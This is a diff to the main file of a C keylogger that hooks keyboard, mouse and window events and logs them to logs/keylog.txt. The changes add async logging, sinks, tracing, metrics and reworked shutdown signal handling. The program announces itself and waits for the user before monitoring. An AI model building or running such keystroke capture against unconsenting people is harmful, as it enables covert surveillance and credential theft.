@@ -5,49 +5,80 @@
 #include "buffer.h"
 #include "logger.h"
 #include "utils.h"
+#include "metrics.h"
+#include "sink.h"
+#include "trace.h"
 
-static volatile int running = 1;
+#ifndef _WIN32
+#include <pthread.h>
+#endif
 
-// Function is triggered by hooks and processes different types of events
-static void event_callback(const Event* event) {
-    if (!event) return;
-    
-    printf("Event received: type=%d\n", event->type);
-
-    // Buffer to format event data for logging
-    char event_data[1024];
-
-     // Handle different event types
-    switch(event->type) {
-        case EVENT_KEY_PRESS:
-            printf("Key Press Detected: %lu\n", event->data.keyboard.vkCode);
-            snprintf(event_data, sizeof(event_data), "Key Press: %lu\n", 
-                    event->data.keyboard.vkCode);
-            break;
-        case EVENT_MOUSE_CLICK:
-            printf("Mouse Click Detected: (%ld, %ld)\n",
-                   event->data.mouse.position.x, event->data.mouse.position.y);
-            snprintf(event_data, sizeof(event_data), "Mouse Click: (%ld, %ld)\n", 
-                    event->data.mouse.position.x, event->data.mouse.position.y);
-            break;
-        case EVENT_WINDOW_CHANGE:
-            printf("Window Change Detected: %s\n", event->data.window.title);
-            snprintf(event_data, sizeof(event_data), "Window Change: %s\n", 
-                    event->data.window.title);
-            break;
-        default:
-            return;
+// Debug logging
+#ifdef DEBUG
+    #define MAIN_DEBUG(msg, ...) printf("[DEBUG] " msg "\n", ##__VA_ARGS__)
+#else
+    #define MAIN_DEBUG(msg, ...)
+#endif
+
+// Longest the main thread sleeps between calls to process_events() when
+// the hooks need polling; otherwise it sleeps until a message or shutdown
+#define MAIN_POLL_INTERVAL 100
+
+// Debug builds dump the pipeline metrics to a side file
+#define MAIN_METRICS_FILE "logs/metrics.txt"
+
+static volatile sig_atomic_t running = 1;
+static HANDLE shutdown_event = NULL;  // Wakes the main loop for shutdown
+
+static bool start_shutdown_signals(void);
+
+#ifdef _WIN32
+// The C runtime runs console signal handlers on a thread of their own, so
+// setting the event is safe here; the main thread flushes on its way out
+static void cleanup_handler(int signum) {
+    (void)signum;
+    running = 0;
+    SetEvent(shutdown_event);
+}
+
+static bool start_shutdown_signals(void) {
+    signal(SIGINT, cleanup_handler);
+    signal(SIGTERM, cleanup_handler);
+    return true;
+}
+#else
+static sigset_t shutdown_signals;
+
+// SIGINT and SIGTERM are blocked on every thread and taken here instead of
+// in a handler, so the wakeup runs in an ordinary thread context
+static DWORD WINAPI signal_thread_proc(LPVOID param) {
+    (void)param;
+    int signum;
+    if (sigwait(&shutdown_signals, &signum) == 0) {
+        MAIN_DEBUG("Signal received: %d", signum);
+        running = 0;
+        SetEvent(shutdown_event);
     }
-    
-    // Add event to buffer and write it to log file
-    add_to_buffer(event_data, strlen(event_data));
+    return 0;
 }
 
-void cleanup_handler(int signum) {
-    printf("Signal received: %d. Setting running to 0.\n", signum);
-    force_flush_buffer();  // Flush any remaining events before exit
-    running = 0;
+// Must run before any other thread starts, which inherit the mask
+static bool start_shutdown_signals(void) {
+    sigemptyset(&shutdown_signals);
+    sigaddset(&shutdown_signals, SIGINT);
+    sigaddset(&shutdown_signals, SIGTERM);
+    if (pthread_sigmask(SIG_BLOCK, &shutdown_signals, NULL) != 0) {
+        return false;
+    }
+
+    HANDLE thread = CreateThread(NULL, 0, signal_thread_proc, NULL, 0, NULL);
+    if (!thread) {
+        return false;
+    }
+    CloseHandle(thread);  // Ends with the first signal
+    return true;
 }
+#endif
 
 // Entry point of the keylogger program
 int main() {
@@ -55,9 +86,16 @@ int main() {
     char input;
     
     printf("Keylogger starting...\n");
-    printf("[DEBUG] Setting up signal handlers...\n");
-    signal(SIGINT, cleanup_handler);
-    signal(SIGTERM, cleanup_handler);
+    shutdown_event = CreateEvent(NULL, TRUE, FALSE, NULL);
+    if (!shutdown_event) {
+        fprintf(stderr, "Failed to create the shutdown event\n");
+        return 1;
+    }
+    MAIN_DEBUG("Setting up signal handlers...");
+    if (!start_shutdown_signals()) {
+        fprintf(stderr, "Failed to set up the shutdown signals\n");
+        return 1;
+    }
 
     // Create logs directory if it doesn't exist
     if (!create_directory_if_needed("logs")) {
@@ -65,59 +103,121 @@ int main() {
         return 1;
     }
 
+    init_metrics();
+
+    // Stage events for ETW sessions; tracing is optional
+    if (!init_trace()) {
+        MAIN_DEBUG("Trace provider unavailable (Error: %lu)", (unsigned long)get_trace_last_error());
+    }
+#ifdef DEBUG
+    if (!start_metrics_dump(MAIN_METRICS_FILE, METRICS_DEFAULT_DUMP_INTERVAL)) {
+        MAIN_DEBUG("Metrics dump unavailable (Error: %lu)", (unsigned long)get_metrics_last_error());
+    }
+#endif
+
     // Initialize logger
-    printf("[DEBUG] Initializing logger...\n");
-    if (!init_logger("logs/keylog.txt")) {
+    MAIN_DEBUG("Initializing logger...");
+    LoggerConfig logger_config = {0};
+    logger_config.async = true;
+    logger_config.buffer_size = LOG_ASYNC_BUFFER_SIZE;
+    logger_config.buffer_count = LOG_ASYNC_BUFFER_COUNT;
+    logger_config.rotate_size = LOG_DEFAULT_ROTATE_SIZE;
+    logger_config.rotate_interval = LOG_DEFAULT_ROTATE_INTERVAL;
+    logger_config.durability = LOG_DURABILITY_INTERVAL;  // Group commit every commit_interval ms
+    if (!init_logger_ex("logs/keylog.txt", &logger_config)) {
         fprintf(stderr, "Failed to initialize logger\n");
         return 1;
     }
-    printf("[DEBUG] Logger initialized successfully\n");
+    MAIN_DEBUG("Logger initialized successfully");
 
-    // Initialize hooks
-    printf("[DEBUG] Initializing hooks...\n");
-    if (!init_hooks(event_callback)) { 
-        error = GetLastError();
-        fprintf(stderr, "Failed to initialize hooks (Error: %lu)\n", error);
+    // Initialize buffer before the hooks, the consumer thread may
+    // deliver events as soon as the hooks are installed
+    MAIN_DEBUG("Initializing buffer...");
+    if (!init_buffer()) {
         cleanup_logger();
+        fprintf(stderr, "Failed to initialize buffer\n");
         return 1;
     }
-    printf("[DEBUG] Hooks initialized successfully\n");
+    MAIN_DEBUG("Buffer initialized successfully");
 
-    // Initialize buffer
-    printf("[DEBUG] Initializing buffer...\n");
-    if (!init_buffer()) {
-        cleanup_hooks();
+    // Output fans out to the registered sinks, each on its own worker
+    // thread; the registry also holds the intern table and process cache
+    MAIN_DEBUG("Initializing sinks...");
+    if (!init_sinks() || !register_sink(get_log_sink(), NULL)) {
+        fprintf(stderr, "Failed to initialize sinks (Error: %lu)\n", (unsigned long)get_sink_last_error());
+        cleanup_sinks();
+        cleanup_buffer();
         cleanup_logger();
-        fprintf(stderr, "Failed to initialize buffer\n");
         return 1;
     }
-    printf("[DEBUG] Buffer initialized successfully\n");
+    MAIN_DEBUG("Sinks initialized successfully");
+
+    // Initialize hooks
+    MAIN_DEBUG("Initializing hooks...");
+    HookOptions options = {0};
+    options.consumer_thread = true;
+    options.hook_thread = true;
+    options.batch_size = HOOK_DEFAULT_BATCH_SIZE;
+    options.overflow_policy = HOOK_OVERFLOW_SPILL;  // Ride out short disk stalls
+    options.batch_callback = dispatch_sink_events;
+    if (!init_hooks_ex(NULL, &options)) { 
+        error = GetLastError();
+        fprintf(stderr, "Failed to initialize hooks (Error: %lu)\n", (unsigned long)error);
+        cleanup_sinks();
+        cleanup_buffer();
+        cleanup_logger();
+        return 1;
+    }
+    MAIN_DEBUG("Hooks initialized successfully");
+
+    // Merge high-rate mouse moves so they cannot crowd out keystrokes
+    HookFilters filters;
+    get_hook_filters(&filters);
+    filters.move_coalesce_ms = HOOK_DEFAULT_COALESCE_MS;
+    set_hook_filters(&filters);
     
     // Wait for user input
-    printf("[DEBUG] Press Enter to start monitoring (or Ctrl+C to exit)...\n");
+    printf("Press Enter to start monitoring (or Ctrl+C to exit)...\n");
     fflush(stdout);
     input = getchar();
-    printf("[DEBUG] Received input: %d\n", input);
+    MAIN_DEBUG("Received input: %d", input);
+    (void)input;
 
-    printf("[DEBUG] Starting main loop. Press Ctrl+C to exit.\n");
+    printf("Starting main loop. Press Ctrl+C to exit.\n");
     fflush(stdout);
 
-    // // Main loop: continuously process events
+    // Main loop: deliver foreground window changes; the hook thread feeds
+    // the queue and the consumer thread handles the events. With WinEvent
+    // hooks an idle process sleeps here until a message or the shutdown.
     while (running) {
-        printf("[DEBUG] Processing events...\n");
-        fflush(stdout);
         if (!process_events()) {
-            printf("[DEBUG] Error processing events\n");
+            MAIN_DEBUG("Error processing events");
         }
-        Sleep(100);
+        DWORD wait = hooks_need_polling() ? MAIN_POLL_INTERVAL : INFINITE;
+        MsgWaitForMultipleObjects(1, &shutdown_event, FALSE, wait, QS_ALLINPUT);
     }
     
-    // Perform cleanup after termination
-    printf("[DEBUG] Cleaning up...\n");
-    cleanup_logger();
-    cleanup_buffer();
+    // Perform cleanup after termination, here rather than in the signal
+    // path: stop the producers and drain the queue, then the sinks, which
+    // release the string tables their queued window events still resolve,
+    // then flush the buffer and logger
+    MAIN_DEBUG("Cleaning up...");
+#ifdef DEBUG
+    HookLatencyHistogram latency;
+    get_hook_latency_histogram(&latency);
+    MAIN_DEBUG("Hook latency: %zu callbacks, p50 %llu ns, p99 %llu ns, max %llu ns, %zu over %lu us",
+               latency.count, latency.p50_ns, latency.p99_ns, latency.max_ns,
+               latency.over_threshold, (unsigned long)latency.threshold_us);
+#endif
     cleanup_hooks();
-    printf("[DEBUG] Cleanup complete\n");
+    cleanup_sinks();
+    cleanup_buffer();
+    cleanup_logger();
+    cleanup_trace();
+    cleanup_metrics();
+    CloseHandle(shutdown_event);
+    shutdown_event = NULL;
+    MAIN_DEBUG("Cleanup complete");
 
     return 0;
 }
\ No newline at end of file